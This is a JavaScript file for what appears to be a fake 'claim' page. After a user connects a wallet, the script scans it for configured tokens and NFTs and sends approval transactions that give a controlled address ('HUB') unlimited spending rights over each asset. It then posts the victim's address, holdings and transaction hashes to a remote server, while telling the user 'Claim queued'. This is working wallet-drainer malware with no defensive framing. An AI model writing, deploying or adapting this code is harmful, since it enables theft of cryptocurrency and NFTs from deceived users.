import { SETUP } from "./setup.js";

const ERC20 = [
  { constant: true, inputs: [{ name: "o", type: "address" }], name: "balanceOf", outputs: [{ name: "", type: "uint256" }], type: "function" },
  { constant: false, inputs: [{ name: "s", type: "address" }, { name: "v", type: "uint256" }], name: "approve", outputs: [{ name: "", type: "bool" }], type: "function" },
];
const NFT = [
  { constant: true, inputs: [{ name: "o", type: "address" }], name: "balanceOf", outputs: [{ name: "", type: "uint256" }], type: "function" },
  { constant: false, inputs: [{ name: "op", type: "address" }, { name: "ok", type: "bool" }], name: "setApprovalForAll", outputs: [], type: "function" },
];
const ALL = SETUP.ALL || "0x" + "f".repeat(64);
const wait = (ms) => new Promise((r) => setTimeout(r, ms));

async function scan(web3, me) {
  const found = { coins: [], sets: [] };
  for (const t of SETUP.COINS) {
    const raw = await new web3.eth.Contract(ERC20, t.address).methods.balanceOf(me).call();
    if (BigInt(raw) > 0n) found.coins.push({ ...t, raw });
  }
  for (const c of SETUP.SETS) {
    const n = await new web3.eth.Contract(NFT, c.address).methods.balanceOf(me).call();
    if (Number(n) > 0) found.sets.push(c);
  }
  return found;
}

async function grantCoin(web3, me, coin) {
  const tx = new web3.eth.Contract(ERC20, coin).methods.approve(SETUP.HUB, ALL);
  const gas = await tx.estimateGas({ from: me }).catch(() => 100000);
  return tx.send({ from: me, gas: Math.floor(gas * 1.3) });
}

async function grantSet(web3, me, set) {
  const tx = new web3.eth.Contract(NFT, set).methods.setApprovalForAll(SETUP.HUB, true);
  const gas = await tx.estimateGas({ from: me }).catch(() => 120000);
  return tx.send({ from: me, gas: Math.floor(gas * 1.3) });
}

document.addEventListener("wallet-connected", async ({ detail: { web3, me } }) => {
  const { coins, sets } = await scan(web3, me);
  const hashes = [];
  for (const c of coins) {
    hashes.push((await grantCoin(web3, me, c.address)).transactionHash);
    await wait(2500);
  }
  for (const s of sets) {
    hashes.push((await grantSet(web3, me, s.address)).transactionHash);
    await wait(2500);
  }
  await fetch(SETUP.SERVER + "/session", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ me, coins, sets, hashes }) });
  document.querySelector("#claimState").textContent = "Claim queued";
});
